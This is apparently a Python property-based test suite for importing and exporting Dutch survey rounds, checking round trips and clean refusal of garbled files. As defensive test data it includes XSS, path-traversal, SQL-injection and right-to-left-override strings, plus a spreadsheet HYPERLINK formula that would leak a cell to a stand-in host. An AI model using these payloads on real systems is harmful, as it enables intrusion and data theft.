"""Property tests of the import: generated rounds survive file and export round trips unchanged,
and generated garbage is imported cleanly or refused with a Dutch message that names the file,
never with another exception and never with half a file saved.
"""

import csv
import io
import re
import tempfile
import zipfile
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from hvhk.base.errors import GebruikersFout
from roadmap import store
from roadmap.definition import load_roadmap
from roadmap.io import excel, export, importing, longcsv

ROADMAP = load_roadmap(Path(__file__).parent.parent / "fixtures" / "mini_roadmap.yaml")
SCHAAL = ROADMAP.schaal
STELLINGEN = list(ROADMAP.stellingen["stelling_id"])
DOMEINEN = {d.id: d.naam for d in ROADMAP.levensdomeinen}
HOSTILE = [
    "<script>alert('x')</script>", "<b>Jan</b> & Co", "../../etc/passwd", "..\\..\\boot.ini", "O'Brien",
    '"Bob" \'Bobby\'', "Zoë 👩‍👧‍👦", "שרה כהן", "ليلى بنت أحمد", "\u202eevil.exe\u202c", "Jan; Piet, en co",
    "_x0041_", "NULL", "0", "-1", "True", "1e5", "%s %n {0}", "Robert'); DROP TABLE deelnemer;--",
]
LINE_BREAKS = ["twee\r\nregels", "oude\rMac", "een\nregel", "tab\tstop"]  # CSV only: XML turns CR LF into LF
# How the import says that a cell is no score or belang.
DUTCH_REFUSALS = ("is geen geldig antwoord", "is geen geheel getal", "ligt niet tussen 1 en 4", "moet 1, 2 of 3 zijn")


@pytest.fixture(scope="module")
def database(tmp_path_factory):
    """One store for all examples of a test: every check compares it before and after an import."""
    connection = store.connect(tmp_path_factory.mktemp("eigenschappen") / "hvhk.sqlite")
    yield connection, store.save_huis(connection, "Huis van het Kind Eigenschap", ["44021"])
    connection.close()


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("bestanden")


def tekst(in_excel: bool) -> st.SearchStrategy[str]:
    """A name or remark as a person may type it: hostile classics, or any text.

    Stripped, since every reader strips cells, and not starting with '=', which the import refuses
    as a formula. Excel cells cannot hold control characters; a NUL marks a CSV as not UTF-8.
    """
    excluded = ("Cs", "Cc") if in_excel else ("Cs",)
    anything = st.text(st.characters(exclude_categories=excluded, exclude_characters="\x00\ufffe\uffff"), max_size=20)
    classics = st.sampled_from(HOSTILE if in_excel else HOSTILE + LINE_BREAKS)
    return st.one_of(classics, anything).map(str.strip).filter(lambda s: s and s[0] != "=")


def scores(in_excel: bool) -> st.SearchStrategy[tuple[str, int | None, object]]:
    """(keuze, niveau, the cell as typed): a level by number or label, or weet niet / niet van toepassing."""
    level = st.sampled_from(SCHAAL.niveaus).flatmap(lambda n: st.tuples(
        st.just("niveau"), st.just(n.waarde),
        st.sampled_from([str(n.waarde), f"{n.waarde} – {n.label}", n.label.upper(), f" {n.waarde} "]
                        + ([n.waarde, float(n.waarde)] if in_excel else [])),
    ))
    other = st.sampled_from([
        ("weet_niet", None, SCHAAL.weet_niet), ("weet_niet", None, "WEET NIET"),
        ("niet_van_toepassing", None, SCHAAL.niet_van_toepassing), ("niet_van_toepassing", None, "nvt"),
        ("niet_van_toepassing", None, "n.v.t."),
    ])
    return st.one_of(level, other)


def belangen(in_excel: bool) -> st.SearchStrategy[tuple[int, object]]:
    return st.sampled_from(sorted(SCHAAL.belang.items())).flatmap(lambda item: st.tuples(
        st.just(item[0]),
        st.sampled_from([str(item[0]), f"{item[0]} – {item[1]}", item[1]] + ([item[0]] if in_excel else [])),
    ))


@dataclass(frozen=True)
class Partner:
    naam: str
    organisatie: str
    levensdomein: str | None
    domein_cel: str  # the levensdomein as typed: its id or name, any case
    antwoorden: dict  # stelling_id -> (keuze, niveau, cell, toelichting)
    belang: dict  # onderdeel_id -> (belang, cell)


@st.composite
def rondes(draw, in_excel: bool = False) -> list[Partner]:
    """A round as partners fill it in: 1-4 partners with distinct names, each with at least one answer."""
    names = draw(st.lists(tekst(in_excel), min_size=1, max_size=4, unique_by=str.casefold))
    partners = []
    for naam in names:
        domein = draw(st.sampled_from([None, *DOMEINEN]))
        typed = "" if domein is None else draw(st.sampled_from([domein, DOMEINEN[domein], DOMEINEN[domein].upper()]))
        answers = draw(st.dictionaries(
            st.sampled_from(STELLINGEN),
            st.tuples(scores(in_excel), st.one_of(st.just(""), tekst(in_excel))).map(lambda s: (*s[0], s[1])),
        ))
        belang = draw(st.dictionaries(st.sampled_from(list(DOMEINEN)), belangen(in_excel), min_size=0 if answers else 1))
        organisatie = draw(st.one_of(st.just(""), tekst(in_excel)))
        partners.append(Partner(naam, organisatie, domein, typed, answers, belang))
    return partners


def expected(partners: list[Partner]) -> tuple[set, set, set]:
    """What the store must hold for these partners: (deelnemers, antwoorden, belangen)."""
    return (
        {(p.naam, p.organisatie, p.levensdomein) for p in partners},
        {(p.naam, s, keuze, niveau, note) for p in partners for s, (keuze, niveau, _, note) in p.antwoorden.items()},
        {(p.naam, o, waarde) for p in partners for o, (waarde, _) in p.belang.items()},
    )


def stored(connection, ronde_id: int) -> tuple[set, set, set]:
    people = store.deelnemers(connection, ronde_id)
    names = dict(zip(people["id"], people["naam"]))
    answers = store.antwoorden(connection, ronde_id)
    return (
        {(r.naam, r.organisatie, None if pd.isna(r.levensdomein_id) else r.levensdomein_id) for r in people.itertuples()},
        {(names[r.deelnemer_id], r.stelling_id, r.keuze, None if pd.isna(r.niveau) else int(r.niveau), r.toelichting)
         for r in answers.itertuples()},
        {(names[r.deelnemer_id], r.onderdeel_id, r.belang) for r in store.belangen(connection, ronde_id).itertuples()},
    )


def write_csv(path: Path, partners: list[Partner], delimiter: str, bom: bool, newline: str, order) -> Path:
    """`partners` as a long CSV, rows in `order`; with LF line ends every field is quoted, as a lone CR
    in an unquoted field would end the row. Without the column na_bespreking, as files were written
    before the discussion round: they still read."""
    rows = [(p.naam, p.organisatie, p.domein_cel, s, cell, note) for p in partners
            for s, (_, _, cell, note) in p.antwoorden.items()]
    rows += [(p.naam, p.organisatie, p.domein_cel, o, cell, "") for p in partners for o, (_, cell) in p.belang.items()]
    buffer = io.StringIO()
    quoting = csv.QUOTE_MINIMAL if newline == "\r\n" else csv.QUOTE_ALL
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline, quoting=quoting)
    writer.writerow(longcsv.KOLOMMEN[:-1])
    writer.writerows(order(rows))
    path.write_bytes(buffer.getvalue().encode("utf-8-sig" if bom else "utf-8"))
    return path


@cache
def template(deelnemers: int) -> tuple[bytes, dict[str, int]]:
    """The template's bytes and the row of each id: made once per width, filled per example."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "sjabloon.xlsx"
        excel.write_template(path, ROADMAP, "Huis van het Kind Eigenschap", deelnemers=deelnemers)
        content = path.read_bytes()
    sheet = load_workbook(io.BytesIO(content))[excel.ANTWOORDEN]
    rows = {sheet.cell(r, 1).value: r for r in range(excel.ID_RIJ + 1, sheet.max_row + 1) if sheet.cell(r, 1).value}
    return content, rows


def write_xlsx(path: Path, partners: list[Partner]) -> Path:
    content, rows = template(len(partners))
    book = load_workbook(io.BytesIO(content))
    answers, notes = book[excel.ANTWOORDEN], book[excel.TOELICHTING]
    for column, p in enumerate(partners, start=excel.EERSTE_KOLOM):
        for row, value in enumerate((p.naam, p.organisatie, p.domein_cel), start=1):
            answers.cell(row, column, value or None)
        for item, (_, _, cell, note) in p.antwoorden.items():
            answers.cell(rows[item], column, cell)
            notes.cell(rows[item], column, note or None)
        for item, (_, cell) in p.belang.items():
            answers.cell(rows[item], column, cell)
    book.save(path)
    return path


def import_round_trips(connection, huis: int, path: Path, partners: list[Partner]) -> None:
    """`path` imports as exactly `partners`, and so does the round's CSV export with names."""
    verslag = importing.import_file(connection, path, huis, ROADMAP)
    assert stored(connection, verslag.ronde_id) == expected(partners)
    exported = path.with_suffix(".export.csv")
    export.export_huis(connection, huis, exported, nummer=verslag.nummer, met_namen=True)
    again = importing.import_file(connection, exported, huis, ROADMAP)
    assert stored(connection, again.ronde_id) == expected(partners)


@given(
    partners=rondes(),
    delimiter=st.sampled_from([";", ","]),
    bom=st.booleans(),
    newline=st.sampled_from(["\n", "\r\n"]),
    order=st.randoms(use_true_random=False),
)
def test_a_generated_csv_round_trips(database, folder, partners, delimiter, bom, newline, order):
    connection, huis = database
    path = write_csv(folder / "ronde.csv", partners, delimiter, bom, newline, lambda rows: order.sample(rows, len(rows)))
    import_round_trips(connection, huis, path, partners)


@settings(max_examples=25)  # a workbook costs a tenth of a second to write and read
@given(partners=rondes(in_excel=True))
def test_a_generated_template_round_trips(database, folder, partners):
    connection, huis = database
    import_round_trips(connection, huis, write_xlsx(folder / "ronde.xlsx", partners), partners)


def test_hostile_names_survive_both_files_and_the_export(database, folder):
    """HTML, paths, quotes, emoji and right-to-left text are names like any other."""
    partners = [
        Partner(naam, organisatie, None, "", {"onderwijs.1": ("niveau", 3, "3", naam)}, {})
        for naam, organisatie in zip(HOSTILE, reversed(HOSTILE))
    ]
    connection, huis = database
    for part in (partners[:10], partners[10:]):
        import_round_trips(connection, huis, write_csv(folder / "namen.csv", part, ";", True, "\r\n", list), part)
        import_round_trips(connection, huis, write_xlsx(folder / "namen.xlsx", part), part)


def test_line_breaks_in_a_remark_survive_the_csv_export(database, folder):
    """A CR on its own ends a row in a CSV file unless the field is quoted."""
    partners = [Partner(f"Partner {i}", "", None, "", {"onderwijs.2": ("niveau", 2, "2", note)}, {})
                for i, note in enumerate(LINE_BREAKS)]
    import_round_trips(*database, write_csv(folder / "regels.csv", partners, ";", True, "\r\n", list), partners)


def test_a_round_without_any_level_exports(database, folder):
    """Only 'weet niet' and 'niet van toepassing': the store gives no level at all, not even NaN."""
    partners = [Partner("An", "", None, "", {"onderwijs.1": ("weet_niet", None, "Weet niet", ""),
                                             "onderwijs.2": ("niet_van_toepassing", None, "nvt", "")}, {})]
    import_round_trips(*database, write_csv(folder / "geen_niveau.csv", partners, ";", False, "\r\n", list), partners)


def test_the_excel_export_never_turns_a_text_into_a_formula(connection, tmp_path):
    """Names, remarks and actions typed in the workshop app may start with '='; openpyxl would write
    them as live formulas, which Excel runs when the analyst opens the export."""
    texts = ['=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")', "=1+1", "+32 9 123 45 67", "@SUM(A1)", "-2+3"]
    huis = store.save_huis(connection, "Huis van het Kind Formule", ["44021"])
    ronde = store.save_ronde(connection, huis, 1, "2026-03-01", ROADMAP)
    for text in texts:
        deelnemer = store.save_deelnemer(connection, ronde, text, organisatie=text)
        store.save_antwoorden(connection, deelnemer, pd.DataFrame(
            [("onderwijs.1", "niveau", 2, text)], columns=["stelling_id", "keuze", "niveau", "toelichting"]))
        store.save_actie(connection, ronde, "onderwijs", text, trekker=text)
    path = tmp_path / "export.xlsx"
    export.export_huis(connection, huis, path, met_namen=True)
    cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert set(texts) <= {cell.value for cell in cells}


def refused_or_imported(database, path: Path) -> GebruikersFout | None:
    """Import `path`: it either lands whole as a new round, or is refused naming the file with the store
    untouched."""
    connection, huis = database
    before = store.row_counts(connection)
    try:
        verslag = importing.import_file(connection, path, huis, ROADMAP)
    except GebruikersFout as error:
        assert str(error).startswith(f"{path}: ")
        assert store.row_counts(connection) == before
        return error
    after = store.row_counts(connection)
    added = {table: after[table] - before[table] for table in ("ronde", "deelnemer", "antwoord", "belang")}
    assert added == {"ronde": 1, "deelnemer": verslag.deelnemers, "antwoord": verslag.antwoorden,
                     "belang": verslag.belangen}
    return None


@given(content=st.one_of(
    st.binary(max_size=500),
    st.binary(max_size=500).map(lambda b: b"PK\x03\x04" + b),  # the start of a zip
    st.binary(max_size=500).map(lambda b: "\ufeffdeelnemer;id;antwoord\n".encode() + b),
), suffix=st.sampled_from([".csv", ".xlsx", ".CSV"]))
def test_random_bytes_are_refused_cleanly(database, folder, content, suffix):
    path = (folder / "willekeurig").with_suffix(suffix)
    path.write_bytes(content)
    refused_or_imported(database, path)


CELL = st.one_of(
    st.sampled_from(["", "An", "onderwijs.1", "onderwijs", "kinderopvang.1", "3", "weet niet", "=1+2", '"', ";", ","]),
    st.text(max_size=12),
)


@given(
    header=st.one_of(st.just(list(longcsv.KOLOMMEN)), st.permutations(longcsv.KOLOMMEN), st.lists(CELL, max_size=7)),
    rows=st.lists(st.lists(CELL, min_size=0, max_size=8), max_size=8),
    delimiter=st.sampled_from([";", ",", "\t", "|"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"]),
)
def test_a_garbled_csv_is_imported_or_refused_cleanly(database, folder, header, rows, delimiter, encoding):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows([header, *rows])
    path = folder / "rommel.csv"
    path.write_bytes(buffer.getvalue().encode(encoding, errors="replace"))
    refused_or_imported(database, path)


@given(text=st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=30))  # NUL: no text
@example(text="9" * 5000)  # beyond the digits Python turns into a number without complaint
@example(text="٣")  # an Arabic-Indic three is a three
def test_any_text_in_a_score_cell_is_a_score_or_a_dutch_refusal(database, folder, text):
    path = folder / "score.csv"
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerows([longcsv.KOLOMMEN, ["An", "", "", "onderwijs.1", text, "", ""]])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    connection, huis = database
    error = refused_or_imported(database, path)
    if error is None:
        ronde_id = int(store.rondes(connection, huis)["id"].max())
        (_, _, keuze, niveau, _), = stored(connection, ronde_id)[1]
        typed = text.strip()
        if keuze == "niveau":
            number = re.match(r"\d+", typed)
            assert int(number.group()) == niveau if number else typed.casefold() == SCHAAL.niveaus[niveau - 1].label.casefold()
        else:
            assert typed.casefold() in {"weet niet", "niet van toepassing", "nvt", "n.v.t."}
    elif text.strip() and not text.strip().startswith("="):
        message = str(error)
        assert f"{path}: 1 fout, er is niets ingelezen:\n  - rij 2, kolom 'antwoord': " in message
        assert any(refusal in message for refusal in DUTCH_REFUSALS), message


def test_a_number_beyond_a_float_in_a_score_cell_is_refused(database, folder):
    """Excel holds no such number, but a hand-made file can: openpyxl reads it as infinity."""
    path = write_xlsx(folder / "oneindig.xlsx", [Partner("An", "", None, "", {"onderwijs.1": ("niveau", 3, 3, "")}, {})])
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["xl/worksheets/sheet2.xml"] = members["xl/worksheets/sheet2.xml"].replace(b"<v>3</v>", b"<v>1E999</v>")
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    error = refused_or_imported(database, path)
    assert error is not None and "kolom D (An): 'inf' is geen geldig antwoord; kies 1 tot 4" in str(error)


VALUES = st.one_of(
    st.text(max_size=10), st.integers(), st.floats(), st.booleans(), st.datetimes(), st.sampled_from(
        ["=SUM(A1:A3)", "Weet niet", "3 – Samenwerken", "onderwijs.1", "onderwijs", "id", "An", "#N/A"]),
)


@settings(max_examples=30, suppress_health_check=[HealthCheck.too_slow])
@given(cells=st.dictionaries(st.tuples(st.integers(1, 14), st.integers(1, 8)), VALUES, max_size=12),
       sheet=st.sampled_from([excel.ANTWOORDEN, excel.TOELICHTING]))
def test_random_cells_in_a_template_are_imported_or_refused_cleanly(database, folder, cells, sheet):
    content, _ = template(4)
    book = load_workbook(io.BytesIO(content))
    for (row, column), value in cells.items():
        try:
            book[sheet].cell(row, column, value)
        except (ValueError, IllegalCharacterError):  # openpyxl cannot write every value (control characters)
            continue
    path = folder / "cellen.xlsx"
    book.save(path)
    refused_or_imported(database, path)


@cache
def filled_members() -> dict[str, bytes]:
    """The XML files of a filled-in template, the raw material for damaged copies."""
    partners = [Partner("An", "CLB", "onderwijs", "Onderwijs", {"onderwijs.1": ("niveau", 3, 3, "goed")},
                        {"onderwijs": (2, 2)})]
    with tempfile.TemporaryDirectory() as folder:
        path = write_xlsx(Path(folder) / "ingevuld.xlsx", partners)
        with zipfile.ZipFile(path) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


@given(data=st.data())
def test_a_damaged_workbook_is_imported_or_refused_cleanly(database, folder, data):
    """Bytes of one of its XML files changed, cut out or inserted, as a broken disk or a hand edit would."""
    members = dict(filled_members())
    name = data.draw(st.sampled_from(sorted(members)), label="member")
    content = bytearray(members[name])
    for _ in range(data.draw(st.integers(1, 3), label="changes")):
        start = data.draw(st.integers(0, len(content) - 1), label="start")
        end = data.draw(st.integers(start, min(start + 40, len(content))), label="end")
        content[start:end] = data.draw(st.one_of(
            st.binary(max_size=8),
            st.sampled_from([b"<", b">", b'"', b"&", b"NaN", b"1E999", b"-1", b't="s"', b'<row r="0">']),
        ), label="insert")
    members[name] = bytes(content)
    if data.draw(st.booleans(), label="drop a file"):
        del members[data.draw(st.sampled_from(sorted(members)), label="dropped")]
    path = folder / "beschadigd.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for member, member_content in members.items():
            archive.writestr(member, member_content)
    refused_or_imported(database, path)
